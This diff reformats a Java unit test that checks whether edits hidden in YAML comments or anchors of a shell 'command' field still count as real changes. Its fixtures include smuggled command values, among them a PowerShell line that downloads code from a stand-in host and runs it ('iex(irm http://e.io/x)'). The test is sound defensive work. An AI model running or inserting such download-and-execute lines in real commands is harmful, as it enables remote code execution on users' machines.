@@ -128,10 +128,13 @@ class HiddenEditsTest {
 
     /** YAML to a reader of YAML, and a command to a shell. */
     @ParameterizedTest
-    @ValueSource(strings = {"say: hi # & evil.exe", "say: &evil hi", "say: !evil hi", "say: hi # $(iex(irm http://e.io/x))"})
+    @ValueSource(
+            strings = {"say: hi # & evil.exe", "say: &evil hi", "say: !evil hi", "say: hi # $(iex(irm http://e.io/x))"})
     void whatYamlPassesOverIsAChangeAllTheSame(String now) {
         ResourceChange change = Stack.change(
-                TOPIC, Map.of("command", "log: start\nsay: hi # hello\n"), Map.of("command", "log: start\n" + now + "\n"));
+                TOPIC,
+                Map.of("command", "log: start\nsay: hi # hello\n"),
+                Map.of("command", "log: start\n" + now + "\n"));
 
         assertThat(change.onlyNoise()).isFalse();
     }
